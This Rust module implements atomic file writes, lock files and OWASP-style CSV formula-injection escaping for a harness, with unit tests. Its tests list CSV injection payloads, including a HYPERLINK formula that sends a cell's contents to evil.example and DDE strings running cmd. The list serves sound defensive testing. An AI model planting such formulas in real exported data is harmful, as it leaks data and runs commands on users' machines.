//! Every file the harness writes, written whole or not at all, and the lock of a file's writers.
//!
//! A file is never rewritten in place: its new bytes go into a temporary file in the same folder,
//! are flushed to the disk (`fsync`), and the temporary file is renamed over the old one, which a
//! POSIX file system does atomically; the folder is flushed too, so the rename survives a power
//! cut. A process killed at any moment, or a disk that fills up, leaves the old file or the new
//! one, never a file cut short: at worst a stray `.NAME.*.tmp` file beside it. A file renamed
//! over keeps the permissions of the one it replaces, and a symbolic link is written through, not
//! replaced.
//!
//! [`Staged`] splits the write in two, so that a caller can prepare several files (the slow,
//! failure-prone part: a full disk fails it) and then put them in place with renames alone
//! (`seed::history` does this for an approval). [`lock_beside`] takes an exclusive lock on a
//! lock file beside a file, for a read-check-write that must not interleave with another
//! process's.
//!
//! Cells of the CSV files the harness writes hold vendor and PSA text, which a spreadsheet would
//! run as a formula: [`csv_text`] neutralizes them as OWASP describes, [`csv_text_read`] undoes it
//! for a file the harness reads back.

use std::borrow::Cow;
use std::fs::{self, File};
use std::io::{self, Write as _};
use std::path::{Path, PathBuf};

/// Writes `bytes` to `path` atomically: a temporary file beside it, flushed, renamed over it.
pub fn write(path: &Path, bytes: &[u8]) -> io::Result<()> {
    stage(path, bytes)?.commit()
}

/// A file's new bytes, flushed to the disk under a temporary name beside it, not yet in place.
///
/// Dropped without [`Staged::commit`], the temporary file is removed and the old file stays.
#[derive(Debug)]
pub struct Staged {
    temp: tempfile::NamedTempFile,
    path: PathBuf,
}

/// Writes `bytes` into a temporary file in the folder of `path` and flushes it.
pub fn stage(path: &Path, bytes: &[u8]) -> io::Result<Staged> {
    let path = through_links(path);
    let name = path
        .file_name()
        .map_or_else(|| "file".into(), |n| n.to_string_lossy().into_owned());
    let mut temp = temporary(&format!(".{name}."), 0o666)
        .suffix(".tmp")
        .tempfile_in(folder_of(&path))?;
    temp.write_all(bytes)?;
    if let Ok(old) = fs::metadata(&path) {
        temp.as_file().set_permissions(old.permissions())?;
    }
    temp.as_file().sync_all()?;
    Ok(Staged { temp, path })
}

impl Staged {
    /// Returns the path the file is put at.
    pub fn path(&self) -> &Path {
        &self.path
    }

    /// Renames the file over its path and flushes the folder.
    pub fn commit(self) -> io::Result<()> {
        let Staged { temp, path } = self;
        temp.persist(&path).map_err(|e| e.error)?;
        sync_folder(folder_of(&path))
    }
}

/// Creates a folder named `prefix…` in `dir`, removed when dropped, with the permissions
/// `fs::create_dir` gives (0777 less the umask): a folder being built to be renamed into place.
pub fn temporary_folder(dir: &Path, prefix: &str) -> io::Result<tempfile::TempDir> {
    temporary(prefix, 0o777).tempdir_in(dir)
}

/// Returns a builder of temporary files or folders named `prefix…` created with `mode` less the
/// umask (as `fs::write` and `fs::create_dir` create them), not tempfile's private 0600 and
/// 0700: they become the harness's files.
fn temporary(prefix: &str, mode: u32) -> tempfile::Builder<'_, 'static> {
    let mut builder = tempfile::Builder::new();
    builder.prefix(prefix);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        builder.permissions(fs::Permissions::from_mode(mode));
    }
    #[cfg(not(unix))]
    let _ = mode;
    builder
}

/// Returns the folder a file of `path` is in (`.` for a bare name).
fn folder_of(path: &Path) -> &Path {
    match path.parent() {
        Some(parent) if !parent.as_os_str().is_empty() => parent,
        _ => Path::new("."),
    }
}

/// Returns the file a symbolic link at `path` points to, or `path`.
fn through_links(path: &Path) -> PathBuf {
    let is_link = fs::symlink_metadata(path).is_ok_and(|m| m.file_type().is_symlink());
    match is_link {
        true => fs::canonicalize(path).unwrap_or_else(|_| path.to_owned()),
        false => path.to_owned(),
    }
}

/// Flushes a folder's entries (a rename in it) to the disk; nothing to do off Unix.
fn sync_folder(folder: &Path) -> io::Result<()> {
    #[cfg(unix)]
    File::open(folder)?.sync_all()?;
    #[cfg(not(unix))]
    let _ = folder;
    Ok(())
}

/// An exclusive lock on a lock file, released when dropped (or when the process ends).
#[derive(Debug)]
pub struct Lock {
    _file: File,
    /// The lock file.
    pub path: PathBuf,
}

/// Takes the exclusive lock of `path`'s writers, on `path` with `.lock` appended (created if
/// missing, never removed: removing it would let two processes lock two files); calls `waiting`
/// once when another process holds it, then waits for it.
pub fn lock_beside(path: &Path, waiting: impl FnOnce(&Path)) -> io::Result<Lock> {
    let mut name = through_links(path).into_os_string();
    name.push(".lock");
    let path = PathBuf::from(name);
    let file = File::options()
        .create(true)
        .truncate(false)
        .write(true)
        .open(&path)?;
    match file.try_lock() {
        Ok(()) => {}
        Err(fs::TryLockError::WouldBlock) => {
            waiting(&path);
            file.lock()?;
        }
        Err(fs::TryLockError::Error(error)) => return Err(error),
    }
    Ok(Lock { _file: file, path })
}

/// Tells whether a CSV cell needs a `'` so that no spreadsheet reads it as a formula: it starts,
/// after any `'`, with `=`, `+`, `-`, `@`, a tab or a carriage return (OWASP, CSV injection).
fn runs_as_formula(cell: &str) -> bool {
    cell.trim_start_matches('\'')
        .starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// Returns a text cell of a CSV file the harness writes, with a `'` before it when a spreadsheet
/// would run it as a formula; the `csv` crate quotes it.
pub fn csv_text(cell: &str) -> Cow<'_, str> {
    match runs_as_formula(cell) {
        true => Cow::Owned(format!("'{cell}")),
        false => Cow::Borrowed(cell),
    }
}

/// Returns the text a cell written by [`csv_text`] holds: one `'` fewer before a formula.
pub fn csv_text_read(cell: &str) -> &str {
    match runs_as_formula(cell) {
        true => cell.strip_prefix('\'').unwrap_or(cell),
        false => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The five payloads of issue 17 and the starts OWASP names.
    const PAYLOADS: [&str; 8] = [
        "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Click\")",
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "=cmd|' /C notepad'!'A1'",
        "\t=1+1",
        "\r=1+1",
        "'=1+1",
    ];

    #[test]
    fn formula_cells_get_a_quote_and_read_back_as_they_were() {
        for payload in PAYLOADS {
            let mut out = csv::Writer::from_writer(Vec::new());
            out.write_record([csv_text(payload).as_ref(), "Acme, Inc."])
                .unwrap();
            let bytes = out.into_inner().unwrap();
            let mut read = csv::ReaderBuilder::new()
                .has_headers(false)
                .from_reader(&bytes[..]);
            let row = read.records().next().unwrap().unwrap();
            assert!(row[0].starts_with("'"), "{payload:?} is not neutralized");
            assert_eq!(csv_text_read(&row[0]), payload);
            assert_eq!(&row[1], "Acme, Inc.");
        }
        for plain in ["Acme", "", "O'Brien", "'quoted'", "a=b", "12"] {
            assert_eq!(csv_text(plain), plain);
            assert_eq!(csv_text_read(plain), plain);
        }
    }

    /// Returns a scratch folder removed when dropped.
    fn scratch() -> tempfile::TempDir {
        tempfile::tempdir().expect("a scratch folder")
    }

    #[test]
    fn a_write_replaces_the_file_keeps_its_mode_and_leaves_no_temporary_file() {
        let dir = scratch();
        let path = dir.path().join("psa.json");
        fs::write(&path, "old").unwrap();
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt as _;
            fs::set_permissions(&path, fs::Permissions::from_mode(0o640)).unwrap();
        }
        write(&path, b"new").unwrap();
        assert_eq!(fs::read_to_string(&path).unwrap(), "new");
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt as _;
            let mode = fs::metadata(&path).unwrap().permissions().mode();
            assert_eq!(mode & 0o777, 0o640);
        }
        let names: Vec<_> = fs::read_dir(dir.path()).unwrap().collect();
        assert_eq!(names.len(), 1, "{names:?}");
    }

    #[cfg(unix)]
    #[test]
    fn a_new_file_gets_the_permissions_fs_write_gives_not_tempfiles_private_ones() {
        use std::os::unix::fs::PermissionsExt as _;
        let dir = scratch();
        let (ours, std) = (dir.path().join("ours"), dir.path().join("std"));
        write(&ours, b"x").unwrap();
        fs::write(&std, b"x").unwrap();
        let mode = |path: &Path| fs::metadata(path).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode(&ours), mode(&std));
        let folder = temporary_folder(dir.path(), ".f.").unwrap();
        fs::create_dir(dir.path().join("d")).unwrap();
        assert_eq!(mode(folder.path()), mode(&dir.path().join("d")));
    }

    #[test]
    fn a_staged_file_dropped_leaves_the_old_one() {
        let dir = scratch();
        let path = dir.path().join("changes.csv");
        fs::write(&path, "old").unwrap();
        let staged = stage(&path, b"new").unwrap();
        assert_eq!(fs::read_to_string(&path).unwrap(), "old");
        drop(staged);
        assert_eq!(fs::read_to_string(&path).unwrap(), "old");
        assert_eq!(fs::read_dir(dir.path()).unwrap().count(), 1);
    }

    #[cfg(unix)]
    #[test]
    fn a_symbolic_link_is_written_through() {
        let dir = scratch();
        let real = dir.path().join("real.json");
        let link = dir.path().join("link.json");
        fs::write(&real, "old").unwrap();
        std::os::unix::fs::symlink(&real, &link).unwrap();
        write(&link, b"new").unwrap();
        assert!(fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink());
        assert_eq!(fs::read_to_string(&real).unwrap(), "new");
    }

    #[test]
    fn a_second_lock_waits_for_the_first() {
        let dir = scratch();
        let path = dir.path().join("psa.json");
        let first = lock_beside(&path, |_| panic!("nobody holds it")).unwrap();
        assert!(first.path.ends_with("psa.json.lock"));
        let (tx, rx) = std::sync::mpsc::channel();
        let waiter = std::thread::spawn(move || {
            let _second = lock_beside(&path, |_| tx.send(()).unwrap()).unwrap();
        });
        rx.recv().expect("the second waited");
        drop(first);
        waiter.join().unwrap();
    }
}
